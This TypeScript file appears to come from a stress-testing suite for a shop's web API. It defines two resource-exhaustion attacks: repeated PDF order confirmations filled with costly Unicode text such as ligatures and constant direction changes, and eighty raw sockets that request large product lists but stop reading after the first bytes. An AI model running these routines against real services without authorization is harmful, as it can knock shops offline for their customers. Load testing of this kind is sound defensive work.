// What a shopper may have made or written for long: documents of an order, lists that are hardly read.
import { connect } from 'node:net';
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Client, codeOf, isGood } from './client.ts';
import { begin, goesOn, hammer, newOutcome, whenOver } from './hammer.ts';
import type { Attacks, Outcome, Target } from './hammer.ts';
import { line } from './shopper.ts';

/** What costs a layout of text most: ligatures of 18 letters, and a change of direction at every character. */
const DEAR = ['\ufdfa'.repeat(250), 'אa'.repeat(125)] as const;
const ELEMENTS = 30;
const PARTS = ['salutation', 'firstname', 'lastname', 'street', 'city', 'companyname', 'department'] as const;

/** An order whose texts are as dear as they may be; its session and id. */
const dearOrder = async (client: Client): Promise<{ readonly session: string; readonly orderId: number }> => {
  const session = codeOf(await client.call('get_new_session'));
  for (let at = 0; at < ELEMENTS; at += 1) {
    const text = DEAR[at % DEAR.length]!;
    await client.call('add_to_cart', { session, ...line(text), description_field: text });
  }
  const fields = PARTS.flatMap((part, at) => [
    [`delivery_${part}`, DEAR[at % DEAR.length]!] as const,
    [`invoice_${part}`, DEAR[(at + 1) % DEAR.length]!] as const,
  ]);
  await client.call('set_order_details', { session, ...Object.fromEntries(fields), note: DEAR.join('\n') });
  const placed = await client.call('checkout', { session });
  if (!isGood(placed)) throw new Error(`no order: ${placed.text}`);
  const { id_order: orderId, session: next } = JSON.parse(placed.text) as { id_order: number; session: string };
  return { session: next, orderId: Number(orderId) };
};

const READERS = 80;
/** Refused ones must not be a flood. */
const AGAIN_MS = 1000;
const FIRST_MS = 100;

/** A list of everything that is asked for and not read beyond its first bytes; asked for again when it is cut off. */
const readSlowly = (target: Target, outcome: Outcome, sockets: Set<Socket>): void => {
  const { port, hostname } = new URL(target.url);
  const fields = {
    request: 'search_products',
    constraint: '[]',
    right_limit: '100000',
    language: 'de_DE',
    country: 'DE',
  };
  const body = new URLSearchParams({ ...target.credentials, ...fields } as Record<string, string>).toString();
  const head =
    `POST /srv/service/ HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/x-www-form-urlencoded\r\n` +
    `Content-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
  const socket = connect(Number(port), hostname, () => socket.write(head + body));
  sockets.add(socket);
  outcome.calls += 1;
  socket.once('data', (first: Buffer) => {
    outcome.bytes += first.length;
    if (!first.toString('latin1', 9, 12).startsWith('200')) outcome.refused += 1;
    socket.pause();
  });
  socket.on('error', () => {});
  socket.once('close', () => {
    sockets.delete(socket);
    if (goesOn()) setTimeout(() => goesOn() && readSlowly(target, outcome, sockets), AGAIN_MS);
  });
};

export const PAPER_ATTACKS: Attacks = {
  'one dear PDF, asked for by three': async (target) => {
    const client = new Client(target.url, target.credentials, 1, target.ca);
    const { session, orderId } = await dearOrder(client);
    client.close();
    return hammer(target, 3, (caller, turn) =>
      caller.call('get_order_confirmation', {
        session,
        id_order: orderId,
        // Another text each time: what was made before does not answer it.
        args: JSON.stringify({ format: 'pdf', closing: `${turn}` }),
      }),
    );
  },

  'eighty readers of lists who do not read': async (target) => {
    const [outcome, sockets] = [newOutcome(), new Set<Socket>()];
    for (let count = 0; count < READERS; count += 1) readSlowly(target, outcome, sockets);
    await sleep(FIRST_MS);
    begin();
    await whenOver();
    for (const socket of sockets) socket.destroy();
    return outcome;
  },
};
